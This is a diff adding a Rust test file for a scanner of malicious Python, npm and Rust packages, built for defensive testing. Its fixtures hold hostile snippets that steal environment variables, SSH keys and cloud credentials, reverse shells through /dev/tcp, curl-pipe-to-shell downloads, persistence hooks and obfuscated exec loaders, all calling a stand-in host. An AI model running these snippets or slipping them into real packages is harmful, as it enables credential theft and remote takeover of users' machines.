@@ -1,0 +1,352 @@
+//! Harmless imitations of what malicious packages do, each beside an honest twin. Nothing here reaches a real host.
+
+use std::io::Cursor;
+
+use crate::archive::making::{tgz_of, wheel};
+use crate::finding::Severity::{self, Critical, High, Info, Medium};
+use crate::report::{Report, Verdict};
+use crate::{Popular, RuleSet, Subject, scan};
+
+mod fuzz;
+
+fn scanned(file: &str, bytes: &[u8]) -> Report {
+    scan(&mut Cursor::new(bytes), Subject { file, package: None }, &RuleSet::default()).unwrap()
+}
+
+fn wheel_with(name: &str, text: &str) -> Report {
+    scanned("a-1.0-py3-none-any.whl", &wheel(&[(name, text)], |_| {}))
+}
+
+fn setup(text: &str) -> Report {
+    scanned("a-1.0.tar.gz", &tgz_of(&[("a-1.0/setup.py", text), ("a-1.0/PKG-INFO", "Name: a\n")]))
+}
+
+fn npm(script: &str) -> Report {
+    let manifest = r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node scripts/run.js"}}"#;
+    scanned("a-1.0.0.tgz", &tgz_of(&[("package/package.json", manifest), ("package/scripts/run.js", script)]))
+}
+
+fn crate_with(build: &str) -> Report {
+    let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\n";
+    scanned("a-1.0.0.crate", &tgz_of(&[("a-1.0.0/Cargo.toml", manifest), ("a-1.0.0/build.rs", build)]))
+}
+
+fn gravest(report: &Report, rule: &str) -> Option<Severity> {
+    report.findings.iter().filter(|finding| finding.rule == rule).map(|finding| finding.severity).max()
+}
+
+#[track_caller]
+fn found(report: &Report, rule: &str, at_least: Severity) {
+    let severity = gravest(report, rule);
+    assert!(severity >= Some(at_least), "{rule} is {severity:?} and not {at_least:?} among {:#?}", report.findings);
+}
+
+#[track_caller]
+fn harmless(report: &Report) {
+    assert_eq!(report.verdict, Verdict::NothingFound, "{:#?}", report.findings);
+}
+
+#[test]
+fn stealing_at_installation_is_found_in_python() {
+    for body in [
+        "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n",
+        "import os as o\nfrom urllib import request as r\nr.urlopen('https://c.example.invalid', data=str(o.environ).encode())\n",
+        "import base64, requests, pathlib\np = pathlib.Path.home() / '.ssh' / 'id_rsa'\nkey = base64.b64encode(p.read_bytes())\nrequests.post('https://c.example.invalid', data={'k': key})\n",
+        "import os, http.client\ndef collect():\n    with open(os.path.expanduser('~/.aws/credentials')) as f:\n        return f.read()\ndef send(x):\n    c = http.client.HTTPSConnection('c.example.invalid')\n    c.request('POST', '/', body=x)\nsend(collect())\n",
+        "import socket, os\ns = socket.socket()\ns.connect(('c.example.invalid', 80))\ns.sendall(repr(os.environ.items()).encode())\n",
+        "import os, subprocess\nsubprocess.call('curl -d \"$(env)\" https://c.example.invalid', shell=True)\n",
+        "__import__('requests').post('https://c.example.invalid', data=getattr(__import__('os'), 'envi' + 'ron'))\n",
+        "import pyperclip, requests\nrequests.get('https://c.example.invalid/?c=' + pyperclip.paste())\n",
+        "import shutil, os, requests\nshutil.copy(os.environ['HOME'] + '/.config/google-chrome/Default/Login Data', '/tmp/l.db')\nrequests.post('https://c.example.invalid', files={'f': open('/tmp/l.db', 'rb')})\n",
+        "from PIL import ImageGrab\nimport requests\nshot = ImageGrab.grab()\nrequests.post('https://c.example.invalid', files={'s': shot.tobytes()})\n",
+    ] {
+        let report = setup(body);
+        found(&report, "code:steal", Critical);
+        assert_eq!(report.verdict, Verdict::Unsafe);
+    }
+}
+
+#[test]
+fn clients_that_show_their_key_are_harmless() {
+    harmless(&wheel_with(
+        "a/client.py",
+        "import os, requests\ndef call(path):\n    token = os.environ['ACME_TOKEN']\n    return requests.get('https://api.example.invalid' + path, headers={'Authorization': token}).json()\n",
+    ));
+    harmless(&wheel_with(
+        "a/__init__.py",
+        "import os, requests\nDEBUG = os.environ.get('A_DEBUG')\nproxies = {'http': os.environ.get('HTTP_PROXY')}\ndef get(u):\n    return requests.get(u, proxies=proxies)\n",
+    ));
+    harmless(&setup(
+        "import os, subprocess\nenv = os.environ.copy()\nenv['CC'] = 'cc'\nsubprocess.check_call(['make'], env=env)\n",
+    ));
+}
+
+#[test]
+fn code_that_is_decoded_and_run_is_found() {
+    let packed = "QUJD".repeat(80);
+    for body in [
+        format!("import base64\nexec(base64.b64decode('{packed}'))\n"),
+        format!(
+            "import zlib, base64\nx = '{packed}'\ny = zlib.decompress(base64.b64decode(x))\nexec(compile(y, 'a', 'exec'))\n"
+        ),
+        format!("from marshal import loads as l\nimport base64 as b\neval(l(b.b64decode('{packed}')))\n"),
+        format!("import builtins, codecs\ngetattr(builtins, 'ex' + 'ec')(codecs.decode('{packed}', 'rot13'))\n"),
+        format!("d = lambda s: bytes.fromhex(s)\ndef run(c):\n    exec(c)\nrun(d('{packed}'))\n"),
+    ] {
+        found(&wheel_with("a/__init__.py", &body), "code:decode-run", Critical);
+        found(&setup(&body), "code:decode-run", Critical);
+    }
+    found(&setup("exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n"), "code:decode-run", Critical);
+    found(&npm("eval(Buffer.from('cHJpbnQ=', 'base64').toString())"), "code:decode-run", Critical);
+    found(&npm("const v = require('vm'); v.runInThisContext(atob('cHJpbnQ='))"), "code:decode-run", Critical);
+    found(&npm("new Function(String.fromCharCode(97,108,101,114,116,40,49,41))()"), "code:decode-run", Critical);
+}
+
+#[test]
+fn decoding_data_and_running_own_code_are_harmless() {
+    harmless(&wheel_with("a/__init__.py", "import base64, json\nDATA = json.loads(base64.b64decode('e30='))\n"));
+    harmless(&setup(
+        "import os\nabout = {}\nwith open(os.path.join('a', '__version__.py')) as f:\n    exec(f.read(), about)\n",
+    ));
+    harmless(&wheel_with(
+        "a/__init__.py",
+        "from collections import namedtuple\nexec('x = 1')\nresult = eval('1 + 1')\n",
+    ));
+    harmless(&npm("const b = Buffer.from('e30=', 'base64').toString(); console.log(JSON.parse(b))"));
+}
+
+#[test]
+fn downloading_and_running_is_found() {
+    for body in [
+        "import requests\nexec(requests.get('https://c.example.invalid/x.py').text)\n",
+        "import os\nos.system('curl -s https://c.example.invalid/x | sh')\n",
+        "import os, urllib.request\neval(compile(urllib.request.urlopen('https://c.example.invalid').read(), 'a', 'exec'))\n",
+    ] {
+        found(&setup(body), "code:download-run", Critical);
+    }
+    for body in [
+        "import urllib.request, subprocess, os\np = '/tmp/x'\nurllib.request.urlretrieve('https://c.example.invalid/x', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n",
+        "import requests, subprocess\nr = requests.get('https://c.example.invalid/x')\nwith open('/tmp/x.exe', 'wb') as f:\n    f.write(r.content)\nsubprocess.call('/tmp/x.exe', shell=True)\n",
+    ] {
+        found(&setup(body), "code:download-run", High);
+    }
+    found(
+        &npm(
+            "require('https').get('https://c.example.invalid', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
+        ),
+        "code:download-run",
+        Critical,
+    );
+    found(&npm("fetch('https://c.example.invalid').then(r => r.text()).then(eval)"), "code:download-run", Critical);
+    found(
+        &npm(
+            "const fs = require('fs'), {execFile} = require('child_process'); const o = fs.createWriteStream('/tmp/x'); require('https').get('https://c.example.invalid', r => { r.pipe(o); o.on('finish', () => execFile('/tmp/x')) })",
+        ),
+        "code:download-run",
+        High,
+    );
+    found(
+        &crate_with(
+            "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl https://c.example.invalid | sh\").status().unwrap();\n}\n",
+        ),
+        "code:download-run",
+        Critical,
+    );
+}
+
+#[test]
+fn downloading_data_and_running_known_programs_are_harmless() {
+    harmless(&setup(
+        "import subprocess\nversion = subprocess.check_output(['git', 'describe']).decode()\nsubprocess.run(['cmake', '--build', '.'], check=True)\n",
+    ));
+    harmless(&wheel_with(
+        "a/fetch.py",
+        "import requests\ndef fetch(u):\n    r = requests.get(u)\n    open('data.csv', 'wb').write(r.content)\n",
+    ));
+    harmless(&npm("require('child_process').execSync('node-gyp rebuild', {stdio: 'inherit'})"));
+    harmless(&crate_with(
+        "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out}/x.rs\"), \"pub const X: u8 = 1;\").unwrap();\n    std::process::Command::new(\"cc\").arg(\"-c\").arg(\"x.c\").status().unwrap();\n}\n",
+    ));
+}
+
+#[test]
+fn stealing_is_found_in_javascript_and_rust() {
+    for body in [
+        "const https = require('https'); const r = https.request('https://c.example.invalid', {method: 'POST'}); r.write(JSON.stringify(process.env)); r.end()",
+        "const a = require('axios'), fs = require('fs'), os = require('os'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); a.post('https://c.example.invalid', {k})",
+        "require('dns').lookup(Buffer.from(JSON.stringify({...process.env})).toString('hex') + '.c.example.invalid', () => {})",
+        "const cp = require('child_' + 'process'); cp.exec('curl -X POST -d \"$(env)\" https://c.example.invalid')",
+    ] {
+        found(&npm(body), "code:steal", Critical);
+    }
+    found(
+        &crate_with(
+            "fn main() {\n    let all: Vec<_> = std::env::vars().collect();\n    ureq::post(\"https://c.example.invalid\").send_string(&format!(\"{:?}\", all)).unwrap();\n}\n",
+        ),
+        "code:steal",
+        Critical,
+    );
+    harmless(&npm(
+        "const mode = process.env.NODE_ENV; console.log(mode); require('https').get('https://c.example.invalid/' + process.platform)",
+    ));
+}
+
+#[test]
+fn beacons_and_drop_hosts_are_found() {
+    found(
+        &setup(
+            "import socket, getpass, requests\nrequests.get('https://c.example.invalid', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
+        ),
+        "code:beacon",
+        High,
+    );
+    found(
+        &npm("const os = require('os'); require('https').get('https://c.example.invalid/?h=' + os.hostname())"),
+        "code:beacon",
+        High,
+    );
+    found(
+        &wheel_with(
+            "a/__init__.py",
+            "import requests\nrequests.post('https://webhook.invalid/123', json={'started': True})\n",
+        ),
+        "code:drop-host",
+        Medium,
+    );
+    let agent =
+        "import platform, requests\ndef get(u):\n    return requests.get(u, headers={'User-Agent': platform.node()})\n";
+    harmless(&wheel_with("a/api.py", agent));
+}
+
+#[test]
+fn reverse_shells_are_found() {
+    for body in [
+        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('c.example.invalid', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
+        "import os\nos.system(\"bash -i >& /dev/tcp/c.example.invalid/4444 0>&1\")\n",
+    ] {
+        found(&setup(body), "code:reverse-shell", Critical);
+    }
+    found(
+        &npm(
+            "const n = require('net'), c = require('child_process'); const sh = c.spawn('/bin/sh', []); const k = new n.Socket(); k.connect(4444, 'c.example.invalid', () => { k.pipe(sh.stdin); sh.stdout.pipe(k) })",
+        ),
+        "code:reverse-shell",
+        Critical,
+    );
+    harmless(&wheel_with(
+        "a/server.py",
+        "import socket\ns = socket.socket()\ns.connect(('db.example.invalid', 5432))\ns.sendall(b'hello')\nprint(s.recv(100))\n",
+    ));
+}
+
+#[test]
+fn staying_on_the_machine_is_found() {
+    found(
+        &setup("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python -m a &')\n"),
+        "code:persist",
+        High,
+    );
+    found(
+        &npm("require('fs').appendFileSync(require('os').homedir() + '/.zshrc', 'node /tmp/x &')"),
+        "code:persist",
+        High,
+    );
+    found(
+        &setup(
+            "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nwinreg.SetValueEx(k, 'a', 0, 1, 'x')\n",
+        ),
+        "code:persist",
+        High,
+    );
+    harmless(&wheel_with("a/shell.py", "def has_bashrc():\n    return 'a' in open('/home/me/.bashrc').read()\n"));
+}
+
+#[test]
+fn starts_of_python_and_commands_of_npm_are_found() {
+    found(&wheel_with("a.pth", "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"), "install:pth", Critical);
+    found(&wheel_with("sitecustomize.py", "print('here')\n"), "install:start-hook", High);
+    harmless(&wheel_with("a.pth", "./a/vendored\n"));
+    let manifest = |script: &str| {
+        let text = format!(r#"{{"name": "a", "scripts": {{"preinstall": "{script}"}}}}"#);
+        scanned("a-1.0.0.tgz", &tgz_of(&[("package/package.json", text.as_str())]))
+    };
+    found(&manifest("curl https://c.example.invalid | sh"), "install:command", Critical);
+    harmless(&manifest("node-gyp rebuild"));
+    let text = r#"{"name": "a", "dependencies": {"b": "http://c.example.invalid/b.tgz"}}"#;
+    found(&scanned("a.tgz", &tgz_of(&[("package/package.json", text)])), "install:remote-dependency", Medium);
+}
+
+#[test]
+fn what_an_install_script_imports_counts_as_installed() {
+    let steal =
+        "import os, requests\ndef go():\n    requests.post('https://c.example.invalid', json=dict(os.environ))\n";
+    let report = scanned(
+        "a-1.0.tar.gz",
+        &tgz_of(&[("a-1.0/setup.py", "from helper import go\ngo()\n"), ("a-1.0/helper.py", steal)]),
+    );
+    found(&report, "code:steal", Critical);
+    let backend = "[build-system]\nrequires = []\nbuild-backend = \"own\"\nbackend-path = [\".\"]\n";
+    let hook = "import os\ndef build_wheel(d, c=None, m=None):\n    os.system('curl https://c.example.invalid | sh')\n";
+    let report = scanned("a-1.0.tar.gz", &tgz_of(&[("a-1.0/pyproject.toml", backend), ("a-1.0/own.py", hook)]));
+    found(&report, "code:download-run", Critical);
+    assert!(report.at_install.contains("a-1.0/own.py"));
+    let class = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('wget https://c.example.invalid/x -O- | bash')\nsetup(cmdclass={'install': I})\n";
+    found(&setup(class), "code:download-run", Critical);
+}
+
+#[test]
+fn hidden_and_unreadable_code_is_found() {
+    let aside = format!("x = 1;{}exec('y')\n", " ".repeat(300));
+    found(&wheel_with("a/__init__.py", &aside), "text:pushed-aside", High);
+    let names: String = (0..40).map(|n| format!("var _0x{:04x}{n:02} = {n};\n", n * 77)).collect();
+    found(&npm(&names), "text:obfuscated", Critical);
+    found(&wheel_with("a/__init__.py", "# \u{202e}reversed\nx = 1\n"), "text:bidi", Medium);
+    let message: String = (0..40).map(|_| '\u{fe01}').collect();
+    found(&wheel_with("a/__init__.py", &format!("x = '{message}'\n")), "text:invisible", High);
+    let elf = wheel(&[("a/logo.png", "\u{7f}ELF\u{2}\u{1}")], |_| {});
+    found(&scanned("a-1.0-py3-none-any.whl", &elf), "file:binary-hidden", High);
+    let library = scanned("a-1.0-py3-none-any.whl", &wheel(&[("a/x.so", "\u{7f}ELF\u{2}\u{1}")], |_| {}));
+    found(&library, "file:binary", Info);
+    harmless(&library);
+    harmless(&wheel_with("a/__init__.py", "text = '\u{5e9}\u{5dc}\u{5d5}\u{5dd}'  # \u{2764}\u{fe0f}\n"));
+}
+
+#[test]
+fn a_report_is_stable_and_reads_back() {
+    let body = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
+    let (one, two) = (setup(body), setup(body));
+    let text = serde_json::to_string(&one).unwrap();
+    assert_eq!(text, serde_json::to_string(&two).unwrap());
+    assert_eq!(serde_json::from_str::<Report>(&text).unwrap(), one);
+    let mut shown = one;
+    shown.sha256 = "(its digest)".into();
+    insta::assert_snapshot!(serde_json::to_string_pretty(&shown).unwrap());
+}
+
+#[test]
+fn evidence_holds_no_key() {
+    let key = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
+    let report = setup(&format!(
+        "import os, requests\nrequests.post('https://c.example.invalid', headers={{'token': '{key}'}}, json=dict(os.environ))\n"
+    ));
+    assert!(!serde_json::to_string(&report).unwrap().contains(&key));
+    found(&report, "code:steal", Critical);
+}
+
+#[test]
+fn a_name_near_a_popular_one_is_told() {
+    let rules = RuleSet { popular: Popular::new(["requests", "numpy"]), ..RuleSet::default() };
+    let bytes = wheel(&[("a.py", "")], |_| {});
+    let scanned =
+        |package| scan(&mut Cursor::new(&bytes), Subject { file: "a.whl", package: Some(package) }, &rules).unwrap();
+    found(&scanned("reqeusts"), "name:near", Medium);
+    harmless(&scanned("requests"));
+}
+
+#[test]
+fn every_rule_is_in_the_guide() {
+    let guide = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/scan.md")).unwrap();
+    for rule in crate::rules::ALL {
+        assert!(guide.contains(&format!("`{}`", rule.id)), "docs/scan.md does not tell of {}", rule.id);
+    }
+}
